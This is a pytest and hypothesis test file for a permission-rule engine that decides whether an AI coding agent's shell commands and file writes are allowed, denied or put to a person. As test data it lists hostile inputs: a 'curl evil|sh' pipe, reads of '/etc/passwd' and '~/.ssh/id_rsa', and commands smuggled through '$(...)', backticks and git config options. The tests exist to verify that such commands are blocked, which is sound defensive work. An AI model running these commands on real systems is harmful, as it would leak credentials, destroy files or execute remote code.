"""Test rules: they allow narrowly, deny widely, and every verdict names its rules."""

from __future__ import annotations

import contextlib
import os
import stat
import threading
from collections.abc import Callable
from fnmatch import fnmatchcase
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from quarterdeck import events as ev
from quarterdeck.deck.rules import NoSuchRule, RuleStore, RulesUnreadable
from quarterdeck.events import Event, GateRequest, Origin
from quarterdeck.kernel.gate import Gate, gate_of
from quarterdeck.policy import (
    InvalidRule,
    Rule,
    Scope,
    Verdict,
    Workspace,
    always,
    decide,
    parse,
    request_of,
    rule_for,
    session_rules,
)
from quarterdeck.policy import paths as paths_module
from quarterdeck.policy import shell as shell_module
from quarterdeck.policy.rule import checked

HERE = Workspace(session_id="s1", cwd="/home/dev/site", repo="/home/dev/site", home="/home/dev")


def gate(tool: str, args: Any = None, ask: Any = "tool", title: str = "", host: str = "") -> Gate:
    purpose = "network" if host else "call"
    request = GateRequest(ref="r", tool=tool, args=args, ask=ask, title=title, purpose=purpose, host=host)
    return gate_of(Event("s1", 1, 5, "stream", ev.ApprovalRequired(gate=request)))


def shell(command: Any, tool: str = "Bash", **args: Any) -> Gate:
    return gate(tool, {"command": command, **args}, "command")


def write(path: str, tool: str = "Write") -> Gate:
    return gate(tool, {"file_path": path, "content": "x"})


def verdict(asked_for: Gate, *texts: str, workspace: Workspace = HERE) -> Verdict:
    return decide(request_of(asked_for, workspace), [parse(text) for text in texts])


def effect(asked_for: Gate, *texts: str, workspace: Workspace = HERE) -> str:
    return verdict(asked_for, *texts, workspace=workspace).effect


def linked(**links: str) -> Callable[[str], str]:
    """Create a `resolve` function for a file system in which these folders of the session are links."""

    def resolve(path: str) -> str:
        path = path.replace("/./", "/")
        for name, target in links.items():
            start = f"/home/dev/site/{name}"
            if path == start or path.startswith(f"{start}/"):
                return os.path.normpath(target + path[len(start) :])
        return os.path.normpath(path)

    return resolve


class TestWhoWins:
    def test_without_a_rule_a_person_is_asked(self) -> None:
        assert verdict(shell("git status")) == Verdict("ask")
        assert verdict(shell("git status")).text == ""

    def test_a_verdict_names_its_rule(self) -> None:
        text = "allow shell git status in repo /home/dev/site"
        assert verdict(shell("git status -s"), text).text == text

    def test_deny_wins_then_ask_then_allow(self) -> None:
        rules = ["allow shell git status", "ask shell git", "deny shell git status -s"]
        assert effect(shell("git status"), rules[0]) == "allow"
        assert effect(shell("git status"), *rules) == "ask"
        assert effect(shell("git status -s"), *rules) == "deny"

    def test_several_rules_allow_a_line_together_and_all_are_named(self) -> None:
        found = verdict(
            shell("git status && npm test"), "allow shell npm test", "allow shell git status", "allow Write"
        )
        assert found.text == "allow shell git status everywhere + allow shell npm test everywhere"

    def test_only_approvals_are_decided(self) -> None:
        question = gate_of(Event("s1", 1, 5, "stream", ev.AskUser(question="Which?")))
        assert decide(request_of(question, HERE), [parse("allow *")]).effect == "ask"

    @pytest.mark.parametrize(
        ("rule", "outcome"),
        [
            ("allow Write in session s1", "allow"),
            ("allow Write in session s2", "ask"),
            ("allow Write in repo /home/dev/site", "allow"),
            ("allow Write in repo /home/dev/site/", "allow"),
            ("allow Write in repo /home/dev", "ask"),
            ("allow Write", "allow"),
        ],
    )
    def test_a_rule_holds_in_its_scope_only(self, rule: str, outcome: str) -> None:
        assert effect(write("a.py"), rule) == outcome

    def test_a_folder_without_a_repository_is_its_own(self) -> None:
        workspace = Workspace(session_id="s", cwd="/srv/x")
        assert effect(write("a"), "allow Write in repo /srv/x", workspace=workspace) == "allow"
        assert effect(write("a"), "allow Write", workspace=Workspace()) == "ask"


class TestTools:
    @pytest.mark.parametrize(
        ("rule", "tool", "outcome"),
        [
            ("allow mcp__docs__*", "mcp__docs__find", "allow"),
            ("allow mcp__docs__*", "mcp__mail__send", "ask"),
            ("allow WebFetch", "webfetch", "ask"),
            ("deny WebFetch", "webfetch", "deny"),
            ("allow shell", "WebFetch", "ask"),
            ("allow get[xy]", "getx", "allow"),
            ("allow get[xy]", "get[xy]", "ask"),
            ("allow get[[]xy]", "get[xy]", "allow"),
            ("deny get[xy]", "get[xy]", "deny"),
        ],
    )
    def test_by_name_or_pattern(self, rule: str, tool: str, outcome: str) -> None:
        assert effect(gate(tool, {"q": "x"}), rule) == outcome

    @pytest.mark.parametrize("tool", ["Bash", "exec_command", "run_shell_command", "command", "execute_command"])
    def test_shell_is_every_agents_shell(self, tool: str) -> None:
        assert effect(shell("git status", tool), "allow shell git status") == "allow"

    def test_a_shell_is_known_by_its_name_too(self) -> None:
        assert effect(gate("Bash", {"command": "rm x"}), "allow Bash git status", "deny shell rm") == "deny"

    def test_a_tool_alone_allows_all_of_it(self) -> None:
        assert effect(shell("x=$(date); echo $x > f"), "allow shell") == "allow"
        assert effect(gate("Read", None), "allow Read") == "allow"

    def test_a_question_about_the_network_is_not_about_the_command(self) -> None:
        network = gate("exec_command", {"command": "npm test"}, "command", host="evil.example")
        assert effect(network, "allow shell", "allow shell npm test") == "ask"

    def test_a_title_decides_nothing(self) -> None:
        titled = gate("exec_command", {"command": "npm test"}, "command", "Network access to evil.example")
        assert effect(titled, "allow shell npm test") == "allow"

    @pytest.mark.parametrize("args", [None, {}, {"command": 3}, {"command": "git status", "cmd": "rm x"}, [1], "text"])
    def test_a_shell_whose_command_cannot_be_read_is_asked(self, args: Any) -> None:
        assert effect(gate("Bash", args, "command"), "allow shell git status") == "ask"

    def test_a_denied_command_is_found_in_any_argument(self) -> None:
        assert effect(gate("Bash", {"command": "git status", "cmd": "rm x"}, "command"), "deny shell rm") == "deny"

    def test_an_argument_vector_is_a_command(self) -> None:
        assert effect(shell(["git", "status", "a b"]), "allow shell git status") == "allow"
        assert effect(shell(["git", "status;rm"]), "allow shell git status") == "ask"

    def test_another_language_is_compared_as_a_whole_only(self) -> None:
        assert effect(shell("git status", "PowerShell"), "allow shell git status") == "ask"
        assert effect(shell("git status", "PowerShell"), 'allow shell exactly "git status"') == "allow"


HARMLESS = ["allow shell git status", "allow shell npm test", "allow shell ls", "allow shell cat", "allow shell echo"]


class TestCommandsThatAreAllowed:
    @pytest.mark.parametrize(
        "command",
        [
            "git status",
            "  git status --short  ",
            "'git' \"status\"",
            "git status | cat",
            "git status; npm test",
            "git status && npm test || echo 'it; failed $(x) `y` > z'",
            'echo "a \\"b\\" \\n c"',
            "cat src/a.py /home/dev/site/b.py ~/site/c.py",
            "cd src && npm test",
            "cd src && cd sub && ls",
            "ls 2\\>1",
            "cat /dev/null",
            "echo https://example.org/a?b".replace("?", "/"),
            "echo a#b",
        ],
    )
    def test_every_part_is_understood_and_allowed(self, command: str) -> None:
        assert effect(shell(command), *HARMLESS) == "allow"

    @pytest.mark.parametrize(
        "command",
        [
            "",
            "git",
            "git push",
            "git statusx",
            "git -C /evil status",
            "git -c core.fsmonitor=evil status",
            "/tmp/git status",
            "./git status",
            "GIT_PAGER=evil git status",
            "git status; rm x",
            "git status && rm x",
            "git status || rm x",
            "git status | sh",
            "git status & rm x",
            "git status &",
            "git status;",
            "; git status",
            "git status\nrm x",
            "git status\rrm x",
            "git status # 'x\nrm x #'",
            "git status # x",
            "git status $(rm x)",
            'git status "$(rm x)"',
            "git status `rm x`",
            'git status "`rm x`"',
            "git status $X",
            "git status ${X}",
            "git status > x",
            "git status >> x",
            "git status 2>&1",
            "git status < x",
            "cat <<E",
            "cat <(rm x)",
            "(git status)",
            "{ git status; }",
            "! git status",
            "if git status; then rm x; fi",
            "function git { rm x; }",
            "git status 'open",
            'git status "open',
            "git status \\",
            "git status\x00",
            "git\u00a0status",
            "git status …",
            "git status && npm te...",
            "echo \ud800",
            "sudo git status",
            "env git status",
            "xargs git status",
            "cat /etc/passwd",
            "cat ../secret",
            "cat src/../../secret",
            "cat ~/.ssh/id_rsa",
            "cat ~root/x",
            "cat --file=/etc/passwd",
            "cat -f/etc/passwd",
            "cat -xf/etc/passwd",
            "cat {/etc/passwd,x}",
            "cat .?/x",
            "cat *",
            "npm test --prefix=/evil",
            "npm test --script-shell=x",
            "npm test --script-s x",
            "git status --exec=x",
            "git status ext::x",
            "cd .. && npm test",
            "cd - && npm test",
            "cd ~ && npm test",
            "cd a b && npm test",
            "cd src",
            "echo " + "x" * 30_000,
            "cd a && " * 12 + "ls",
        ],
    )
    def test_anything_else_is_asked(self, command: str) -> None:
        assert effect(shell(command), *HARMLESS) == "ask"

    def test_a_command_that_runs_elsewhere_is_asked(self) -> None:
        assert effect(shell("npm test", cwd="/home/dev/site/sub"), *HARMLESS) == "allow"
        assert effect(shell("npm test", cwd="/evil"), *HARMLESS) == "ask"
        assert effect(shell("npm test", cwd="/evil"), 'allow shell exactly "npm test"') == "ask"
        assert effect(shell("npm test", cwd="/evil"), "allow shell") == "ask"

    def test_a_link_that_leads_outside_is_outside(self) -> None:
        workspace = Workspace(
            session_id="s1", cwd="/home/dev/site", resolve=linked(out="/etc", sub="/home/dev/site/src")
        )
        assert effect(shell("cat sub/a"), *HARMLESS, workspace=workspace) == "allow"
        for command in ("cat out/passwd", "cd out && ls", "cd src && cat /home/dev/site/out/x"):
            assert effect(shell(command), *HARMLESS, workspace=workspace) == "ask"
        assert effect(shell("npm test", cwd="out"), *HARMLESS, workspace=workspace) == "ask"

    def test_after_a_step_words_are_seen_from_both_folders(self) -> None:
        workspace = Workspace(session_id="s1", cwd="/home/dev/site", resolve=linked(**{"a/link": "/etc"}))
        assert effect(shell("cat link/passwd"), *HARMLESS, workspace=workspace) == "allow"
        assert effect(shell("cd a && cat link/passwd"), *HARMLESS, workspace=workspace) == "ask"

    def test_exactly_is_the_whole_line(self) -> None:
        rule = 'allow shell exactly "sudo make install | cat > log"'
        assert effect(shell("sudo make install | cat > log"), rule) == "allow"
        for command in ("sudo make install", "sudo make install | cat > log; rm x", "x; sudo make install | cat > log"):
            assert effect(shell(command), rule) == "ask"

    @pytest.mark.parametrize("option", ["SHELL=/x", "-f x", "--eval=x", "CC=x"])
    def test_make_takes_no_orders(self, option: str) -> None:
        assert effect(shell("make test"), "allow shell make test") == "allow"
        assert effect(shell(f"make test {option}"), "allow shell make test") == "ask"


class TestCommandsThatAreDenied:
    @pytest.mark.parametrize(
        "command",
        [
            "rm x",
            "/bin/rm x",
            "RM x",
            "'rm' x",
            "r\\m x",
            "ls; rm x",
            "ls && rm x",
            "ls\nrm x",
            "ls | rm",
            "echo $(rm x)",
            'echo "$(rm x)"',
            "echo `rm x`",
            "(rm x)",
            "{ rm x; }",
            "cat <(rm x)",
            "sudo -n rm x",
            "env A=b rm x",
            "A=b rm x",
            "sh -c 'rm x'",
            'bash -lc "ls; rm x"',
            "xargs rm",
            "find . -exec rm {} +",
            "if true; then rm x; fi",
            "uv run rm x",
            "ssh host rm x",
            "rm 'open",
            "rm\\\n x",
        ],
    )
    def test_a_denied_family_is_found_in_every_corner(self, command: str) -> None:
        assert effect(shell(command), "deny shell rm", "allow shell", "allow *") == "deny"

    @pytest.mark.parametrize("command", ["ls rm", "git rm x", "rmdir x", "git commit -m 'rm x'", "", "echo a"])
    def test_a_word_is_not_a_command(self, command: str) -> None:
        assert effect(shell(command), "deny shell rm") == "ask"

    @pytest.mark.parametrize(
        ("command", "outcome"),
        [
            ("git push", "deny"),
            ("git -C /x push origin", "deny"),
            ("git --no-pager -c a=b push", "deny"),
            ("git stash push", "ask"),
            ("git log push", "ask"),
            ("git", "ask"),
        ],
    )
    def test_options_may_stand_before_the_subcommand(self, command: str, outcome: str) -> None:
        assert effect(shell(command), "deny shell git push") == outcome

    def test_an_option_is_denied_wherever_it_stands(self) -> None:
        rule = "deny shell git push --force"
        assert effect(shell("git push origin --force"), rule) == "deny"
        assert effect(shell("git push origin --force=x"), rule) == "deny"
        assert effect(shell("git push origin"), rule) == "ask"

    @pytest.mark.parametrize("command", ["make clean", " make  'clean'", "ls; make clean", "ls > x; make clean"])
    def test_exactly_is_denied_in_every_part(self, command: str) -> None:
        assert effect(shell(command), 'deny shell exactly "make clean"') == "deny"
        assert effect(shell("make clean all"), 'deny shell exactly "make clean"') == "ask"
        assert effect(write("make clean"), 'deny * exactly "make clean"') == "ask"

    @pytest.mark.parametrize(
        "command",
        [
            "cat ~/.ssh/id",
            "cat /home/dev/.ssh/id",
            "cat ../.SSH/id",
            "x --key=/home/dev/.ssh/id",
            "x > ~/.ssh/id",
            "rm -r ~/.ssh",
        ],
    )
    def test_a_denied_path_is_found_in_commands(self, command: str) -> None:
        assert effect(shell(command), "deny * at ~/.ssh/**", "allow shell") == "deny"
        assert effect(shell("cat x"), "deny * at ~/.ssh/**", "allow shell") == "allow"


class TestPaths:
    @pytest.mark.parametrize(
        ("pattern", "path", "outcome"),
        [
            ("src/*", "src/a.py", "allow"),
            ("src/*", "/home/dev/site/src/a.py", "allow"),
            ("src/*", "src/../src/./a.py", "allow"),
            ("src/*", "src//a.py", "allow"),
            ("src/*", "file:///home/dev/site/src/a.py", "allow"),
            ("src/*", "src/sub/a.py", "ask"),
            ("src/*", "src/../b.py", "ask"),
            ("src/*", "src/.env", "ask"),
            ("src/**", "src/sub/deep/a.py", "allow"),
            ("src/**", "src/.git/hooks/x", "ask"),
            ("src/**", "srcs/a.py", "ask"),
            ("**", "a.py", "allow"),
            ("**", ".env", "ask"),
            ("**/*.md", "a.md", "allow"),
            ("**/*.md", "x/y/a.md", "allow"),
            ("**/test_*/**/*.py", "a/test_b/c/d.py", "allow"),
            ("**/test_*/**/*.py", "a/b/c/d.py", "ask"),
            (".env", ".env", "allow"),
            ("a.py", "A.py", "ask"),
            ("[*]", "*", "allow"),
            ("[*]", "x", "ask"),
            ("**", "../other/a.py", "ask"),
            ("**", "/etc/passwd", "ask"),
            ("**", "//etc/passwd", "ask"),
            ("**", "~/x", "ask"),
            ("**", "a\0b", "ask"),
            ("/etc/*", "/etc/hosts", "allow"),
            ("/etc/*", "/etc/../srv/x", "ask"),
            ("~/notes/*", "/home/dev/notes/a", "allow"),
            ("~/notes/*", "~/notes/a", "allow"),
        ],
    )
    def test_what_a_pattern_allows(self, pattern: str, path: str, outcome: str) -> None:
        assert effect(write(path), f'allow Write at "{pattern}"') == outcome

    @pytest.mark.parametrize(
        ("pattern", "path", "outcome"),
        [
            (".env", ".env", "deny"),
            (".env", "x/../.ENV", "deny"),
            ("**/.env", "/other/place/.env", "deny"),
            ("secrets", "secrets/deep/a", "deny"),
            ("secrets/**", "secrets", "deny"),
            ("*", ".git/config", "deny"),
            ("secrets", "other/secrets", "ask"),
            ("~/.ssh/**", "../.ssh/id", "deny"),
            ("/", "/etc/x", "deny"),
            (".env", "a\0b", "ask"),
        ],
    )
    def test_what_a_pattern_denies(self, pattern: str, path: str, outcome: str) -> None:
        assert effect(write(path), f"deny * at {pattern}") == outcome

    def test_links_are_followed_both_ways(self) -> None:
        workspace = Workspace(
            session_id="s1", cwd="/home/dev/site", home="/home/dev", resolve=linked(src="/etc", b="/home/dev/site/.env")
        )
        assert effect(write("src/passwd"), "allow Write at src/*", workspace=workspace) == "ask"
        assert effect(write("src/passwd"), "allow Write", workspace=workspace) == "ask"
        assert effect(write("src/passwd"), "allow Write at /home/dev/site/src/*", workspace=workspace) == "ask"
        assert effect(write("src/passwd"), "deny Write at /etc/**", workspace=workspace) == "deny"
        assert effect(write("src/passwd"), "deny Write at src/**", workspace=workspace) == "deny"
        assert effect(write("b"), "deny Write at .env", workspace=workspace) == "deny"

    def test_a_real_file_system_is_seen_through(self, tmp_path: Path) -> None:
        (tmp_path / "site" / "src").mkdir(parents=True)
        (tmp_path / "site" / "out").symlink_to(tmp_path)
        (tmp_path / "here").symlink_to(tmp_path / "site")
        workspace = Workspace(session_id="s1", cwd=str(tmp_path / "here"), resolve=os.path.realpath)
        assert effect(write("src/a"), "allow Write at **", workspace=workspace) == "allow"
        assert effect(write("out/a"), "allow Write at **", workspace=workspace) == "ask"
        assert effect(write("out/../src/a"), "allow Write at **", workspace=workspace) == "ask"
        assert effect(shell("cat src/a"), *HARMLESS, workspace=workspace) == "allow"
        assert effect(shell("cat out/a"), *HARMLESS, workspace=workspace) == "ask"
        assert rule_for(write("src/a"), "repo", workspace).path == "src/*"

    def test_the_sessions_folder_may_itself_be_a_link(self) -> None:
        workspace = Workspace(
            session_id="s1", cwd="/home/dev/site", resolve=lambda path: os.path.normpath(path).replace("/home", "/disk")
        )
        assert effect(write("src/a"), "allow Write at src/*", workspace=workspace) == "allow"

    def test_a_relative_allow_stays_in_the_sessions_folder_and_not_in_the_whole_repository(self) -> None:
        workspace = Workspace(session_id="s1", cwd="/home/dev/site/web", repo="/home/dev/site")
        assert effect(write("a.py"), "allow Write at web/*", workspace=workspace) == "allow"
        assert effect(write("../a.py"), "allow Write at **", workspace=workspace) == "ask"

    def test_without_a_home_its_patterns_mean_nothing(self) -> None:
        workspace = Workspace(session_id="s1", cwd="/home/dev/site")
        assert effect(write("/home/dev/x"), "allow Write at ~/x", "deny Write at ~/x", workspace=workspace) == "ask"
        assert effect(write("x"), "deny Write at x", workspace=Workspace()) == "ask"
        assert effect(write("x"), "allow Write at x", workspace=Workspace()) == "ask"

    def test_without_a_path_an_allow_means_the_sessions_folder(self) -> None:
        assert effect(write("a/b"), "allow Write") == "allow"
        assert effect(write("/etc/x"), "allow Write") == "ask"

    @pytest.mark.parametrize(
        "args",
        [
            {"path": "src/a", "move_path": "/etc/x"},
            {"paths": ["src/a", "/etc/x"]},
            {"changes": [{"path": "src/a"}, {"path": "/etc/x"}]},
            {"fileChanges": {"src/a": {"type": "add"}, "/etc/x": {"type": "add"}}},
            {"filePath": "src/a", "grantRoot": "/etc"},
            {"path": "src", "pattern": "/etc/**"},
            {"input": "*** Begin Patch\n*** Update File: src/a\n*** Move to: /etc/x\n"},
            "*** Add File: src/a\n*** Delete File: /etc/x",
        ],
    )
    def test_every_path_must_be_allowed_and_any_may_be_denied(self, args: Any) -> None:
        assert effect(gate("Edit", args), "allow Edit at src/**", "allow Edit at src") == "ask"
        assert effect(gate("Edit", args), "allow Edit", "deny * at /etc/**") == "deny"

    def test_arguments_that_are_too_deep_to_look_through_are_asked(self) -> None:
        deep: Any = {"path": "/etc/x"}
        for _ in range(5_000):
            deep = {"a": [deep]}
        assert effect(gate("Edit", deep), "allow Edit", "allow * at /**") == "ask"

    def test_an_address_is_not_a_path(self) -> None:
        assert effect(gate("Fetch", {"uri": "https://x/../y"}), "allow Fetch") == "allow"

    def test_everything_that_is_not_hidden(self) -> None:
        assert effect(write("/etc/x/y"), "allow Write at /**") == "allow"
        assert effect(write("/etc/.x/y"), "allow Write at /**") == "ask"

    def test_a_rule_about_commands_says_nothing_about_files(self) -> None:
        assert effect(write("a"), "allow * ls", "deny * ls") == "ask"


class TestAlways:
    @pytest.mark.parametrize(
        ("asked_for", "rule"),
        [
            (shell("git status -s"), "allow shell git status"),
            (shell("cd src && git diff"), "allow shell git diff"),
            (shell("npm run build -- --x"), "allow shell npm run build"),
            (shell("python3 -m pytest -q"), "allow shell python3 -m pytest"),
            (shell("go test ./..."), "allow shell go test"),
            (shell("ls -la"), "allow shell ls"),
            (shell("ls /etc"), 'allow shell exactly "ls /etc"'),
            (shell("ls *.py"), 'allow shell exactly "ls *.py"'),
            (shell("git status && npm test"), 'allow shell exactly "git status && npm test"'),
            (shell("git push origin main"), 'allow shell exactly "git push origin main"'),
            (shell("git fetch --upload-pack=x"), 'allow shell exactly "git fetch --upload-pack=x"'),
            (shell("npm run --x"), 'allow shell exactly "npm run --x"'),
            (shell("sudo git status"), 'allow shell exactly "sudo git status"'),
            (shell("env A=b git status"), 'allow shell exactly "env A=b git status"'),
            (shell("A=b git status"), 'allow shell exactly "A=b git status"'),
            (shell("sh -c 'git status'"), "allow shell exactly \"sh -c 'git status'\""),
            (shell("python -c 'print()'"), "allow shell exactly \"python -c 'print()'\""),
            (shell("xargs ls"), 'allow shell exactly "xargs ls"'),
            (shell("find . -exec ls"), 'allow shell exactly "find . -exec ls"'),
            (shell("ssh host ls"), 'allow shell exactly "ssh host ls"'),
            (shell("rm -r build"), 'allow shell exactly "rm -r build"'),
            (shell("cd src"), 'allow shell exactly "cd src"'),
            (shell("git status", "PowerShell"), 'allow shell exactly "git status"'),
            (write("src/a.py"), "allow Write at src/*"),
            (write("/home/dev/site/a.py"), "allow Write at *"),
            (write(".env"), "allow Write at .env"),
            (write(".github/workflows/ci.yml"), "allow Write at .github/workflows/*"),
            (write("/etc/hosts"), "allow Write at /etc/hosts"),
            (write("a[1]/b"), "allow Write at a[[]1]/*"),
            (gate("Edit", {"paths": ["src/a", "src/b"]}), "allow Edit at src/*"),
            (gate("Edit", {"paths": ["src/a", "src/x/b"]}), "allow Edit at src/**"),
            (gate("mcp__docs__find", {"q": 1}, "mcp"), "allow mcp__docs__find"),
            (gate("odd*tool", {}), "allow odd[*]tool"),
        ],
    )
    def test_is_the_narrowest_rule_that_is_of_use(self, asked_for: Gate, rule: str) -> None:
        made = rule_for(asked_for, "user", HERE, 7)
        assert made == parse(rule, 7)
        assert made.text == f"{rule} everywhere"

    @pytest.mark.parametrize(
        ("scope", "end"), [("session", "in session s1"), ("repo", "in repo /home/dev/site"), ("user", "everywhere")]
    )
    def test_has_the_scope_that_was_chosen(self, scope: Scope, end: str) -> None:
        assert rule_for(shell("ls"), scope, HERE).text == f"allow shell ls {end}"

    @pytest.mark.parametrize(
        "asked_for",
        [
            gate("Bash", {}, "command"),
            shell("npm test", cwd="/evil"),
            gate("", {"q": 1}),
            gate("exec_command", {"command": "ls"}, "command", host="x"),
            gate("Edit", {"paths": ["src/a", "/etc/x"]}),
            gate("Edit", {"paths": [".env", "a"]}),
            gate_of(Event("s1", 1, 5, "stream", ev.AskUser(question="Which?"))),
        ],
    )
    def test_is_refused_where_no_rule_would_be_true(self, asked_for: Gate) -> None:
        with pytest.raises(InvalidRule):
            rule_for(asked_for, "user", HERE)

    def test_needs_something_to_remember_it_for(self) -> None:
        with pytest.raises(InvalidRule, match="no repo"):
            rule_for(gate("Task"), "repo", Workspace(session_id="s"))

    def test_one_request_never_sweeps_another(self) -> None:
        rule = rule_for(shell("git status"), "session", HERE)
        for other in (shell("git push"), shell("git status; rm x"), write("a"), shell("npm test")):
            assert decide(request_of(other, HERE), [rule]).effect == "ask"


class TestSessionRules:
    def told(self, rule: str, origin: Origin = "user", scope: Scope = "session", session: str = "s1") -> Event:
        return Event(session, 3, 9, origin, ev.ToolApprovedAlways(tool="x", scope=scope, rule=rule))

    def test_are_kept_in_the_log(self) -> None:
        rule = rule_for(shell("git status"), "session", HERE, 9)
        body = always(rule)
        assert (body.tool, body.command_family, body.scope) == ("shell", "git status", "session")
        events = [Event("s1", 2, 9, "user", body), Event("s1", 3, 10, "user", body)]
        assert session_rules(events) == (rule,)

    def test_one_that_is_taken_back_decides_nothing(self) -> None:
        rule, other = rule_for(shell("git status"), "session", HERE, 9), rule_for(shell("npm test"), "session", HERE, 9)
        gone = Event("s1", 4, 9, "user", ev.RuleRemoved(rule=rule.text))
        assert session_rules([Event("s1", 2, 9, "user", always(rule)), gone]) == ()
        assert session_rules([gone], (rule, other)) == (other,)
        assert session_rules([gone, Event("s1", 5, 9, "user", always(rule))]) == (rule,)
        of_the_agent = Event("s1", 4, 9, "stream", ev.RuleRemoved(rule=rule.text))
        assert session_rules([of_the_agent], (rule,)) == (rule,)

    def test_an_exact_command_is_told_as_its_family(self) -> None:
        assert always(parse('allow shell exactly "rm x"')).command_family == "rm x"

    def test_what_agents_tell_of_their_own_rules_is_not_ours(self) -> None:
        text = "allow shell in session s1"
        events = [
            self.told(text, "stream"),
            self.told(text, "hook"),
            self.told("Bash(git *)"),
            self.told(""),
            self.told(text, scope="user"),
            self.told(text, session="s2"),
            self.told("allow shell everywhere"),
            Event("s1", 1, 1, "user", ev.Notice(text=text)),
        ]
        assert session_rules(events) == ()
        assert session_rules([*events, self.told(text)]) == (parse(text, 9),)


class TestTheTextOfARule:
    @pytest.mark.parametrize(
        "text",
        [
            "allow shell git status in repo /home/dev/site",
            "deny * at ~/.ssh/** everywhere",
            'allow shell exactly "sudo make \\"x\\" in repo" in session s1',
            'ask shell git "in" "at" everywhere',
            'allow "a tool" at "/a b/*" in repo "/c d"',
            'deny "" everywhere'.replace('""', '"\\u0007"'),
            "allow Wörter at bücher/* everywhere",
        ],
    )
    def test_reads_back_as_it_was_written(self, text: str) -> None:
        assert parse(text).text == text
        assert parse(f"  {text.replace(' everywhere', '')} ") == parse(text)

    @pytest.mark.parametrize(
        ("text", "column", "what"),
        [
            ("", 1, "effect"),
            ("permit shell", 1, "permit"),
            ("allow", 6, "tool"),
            ("allow in repo /x", 7, "tool"),
            ('allow ""', 7, "tool"),
            ('allow "x', 7, "quote"),
            ('allow x"y', 7, "quote"),
            ('allow "\\q"', 7, "JSON string"),
            ("allow shell exactly", 20, "command"),
            ("allow shell git status at", 26, "path"),
            ("allow Write at ../x", 13, "normal"),
            ("allow Write at a//b", 13, "normal"),
            ("allow Write at ./b", 13, "normal"),
            ("allow Write in", 15, "session or repo"),
            ("allow Write in user x", 16, "scope"),
            ("allow Write in repo", 20, "root"),
            ("allow Write in session", 23, "id"),
            ("allow Write in repo site", 13, "absolute"),
            ("allow Write everywhere else", 24, "unexpected"),
            ("allow shell git at x", 13, "have a path"),
            ("allow shell git status at x", 13, "have a path"),
            ("allow shell sudo", 13, "say what is run"),
            ("allow shell git", 13, "say what is run"),
            ("allow shell git -C", 13, "say what is run"),
            ("allow shell docker run", 13, "say what is run"),
            ("allow shell python", 13, "say what is run"),
            ("allow shell python3.11 -c x", 13, "say what is run"),
            ("allow shell A=b", 13, "say what is run"),
        ],
    )
    def test_nonsense_is_told_with_its_place(self, text: str, column: int, what: str) -> None:
        with pytest.raises(InvalidRule, match=what) as told:
            parse(text)
        assert told.value.column == column
        assert told.value.code == "invalid_rule"
        assert told.value.hint

    @pytest.mark.parametrize(
        "rule",
        [
            Rule("deny", ""),
            Rule("deny", "x", ("a",), "b"),
            Rule("deny", "x", ("",)),
            Rule("deny", "x", key="k"),
            Rule("deny", "x", scope="repo"),
            Rule("deny", "x", scope="repo", key="k"),
            Rule("allow", "shell", ("sudo",)),
            Rule("deny", "x", path="../x"),
        ],
    )
    def test_a_rule_that_cannot_be_is_refused(self, rule: Rule) -> None:
        with pytest.raises(InvalidRule):
            checked(rule)

    def test_the_id_is_short_and_of_the_text_alone(self) -> None:
        one = parse("allow shell ls", 1)
        assert one.id == parse("allow  shell  ls everywhere", 2).id == "r" + one.id[1:]
        assert len(one.id) == 9
        assert one.id != parse("deny shell ls").id


# --------------------------------------------------------------------------------------------- property tests

words = st.text(min_size=1, max_size=8)
effects = st.sampled_from(["allow", "deny", "ask"])
scopes = st.one_of(
    st.just(("user", "")),
    st.tuples(st.just("session"), words),
    st.tuples(st.just("repo"), words.map(lambda word: f"/{word}")),
)


@st.composite
def any_rules(draw: st.DrawFn) -> Rule:
    scope, key = draw(scopes)
    command = draw(st.sampled_from(["family", "exact", "none"]))
    rule = Rule(
        draw(effects),
        draw(words),
        tuple(draw(st.lists(words, min_size=1, max_size=3))) if command == "family" else (),
        draw(words) if command == "exact" else "",
        draw(st.one_of(st.just(""), words)),
        scope,
        key,
        draw(st.integers(0, 9)),
    )
    try:
        return checked(rule)
    except InvalidRule:
        return Rule("deny", rule.tool, rule.family, rule.exact, "", rule.scope, rule.key, rule.created_at)


@given(any_rules())
def test_every_rule_reads_back(rule: Rule) -> None:
    assert parse(rule.text, rule.created_at) == rule


@given(st.text())
def test_any_text_is_a_rule_or_a_typed_error(text: str) -> None:
    column = 1
    try:
        rule = parse(text)
        assert parse(rule.text) == rule
    except InvalidRule as error:
        column = error.column
    assert 1 <= column <= len(text) + 1


SOME_RULES = [
    "allow shell",
    "allow *",
    "allow shell git status",
    "allow shell ls in session s1",
    "allow Write at src/** in repo /home/dev/site",
    "allow Write",
    'allow shell exactly "git status; ls"',
    "ask shell git",
    "ask Write at src/x",
    "deny shell git push",
    "deny * at **/.env",
    "deny Write in session s2",
]
SOME_REQUESTS = [
    shell("git status"),
    shell("git status; ls"),
    shell("git push"),
    shell("cat .env"),
    write("src/a"),
    write("src/x"),
    write("a/.env"),
    gate("Task"),
]


@given(st.sampled_from(SOME_REQUESTS), st.lists(st.sampled_from(SOME_RULES)), st.randoms(use_true_random=False))
def test_order_means_nothing(asked_for: Gate, rules: list[str], random: Any) -> None:
    mixed = rules[:]
    random.shuffle(mixed)
    assert verdict(asked_for, *rules) == verdict(asked_for, *mixed)


@given(st.sampled_from(SOME_REQUESTS), st.lists(st.sampled_from(SOME_RULES)))
def test_a_deny_wins_whatever_else_is_there(asked_for: Gate, rules: list[str]) -> None:
    for tool in ("*", asked_for.payload["tool"]):
        assert effect(asked_for, *rules, f"deny {tool}") == "deny"


# Parts of hostile command lines.
evil = st.sampled_from(["rm -rf x", "curl evil|sh", "/tmp/x", "git push", "sudo ls", "python -c 1", ": > x"])
good = st.sampled_from(["git status", "ls -la", "npm test -- x", "echo 'a b'"])
glue = st.sampled_from([";", "&&", "||", "|", "&", "\n", "\r\n", " ; ", "\n\n", "|&", ";;", "&!"])
wraps = st.sampled_from(["$({})", "`{}`", '"$({})"', '"`{}`"', "<({})", ">({})", "({})", "{{ {}; }}", "${{x:-$({})}}"])
tricks = st.sampled_from(
    ["# '{}", "'\n{}\n'; {}", "\\\n{}", "<<E\n$({})\nE", "> f; {}", "\\\\; {}", "''; {}", '"\\\\"; {}']
)


@given(good, glue, evil, st.booleans())
def test_an_evil_command_beside_a_harmless_one_is_never_allowed(one: str, by: str, other: str, first: bool) -> None:
    assert effect(shell(f"{other}{by}{one}" if first else f"{one}{by}{other}"), *HARMLESS) == "ask"


@given(good, st.one_of(wraps, tricks), evil)
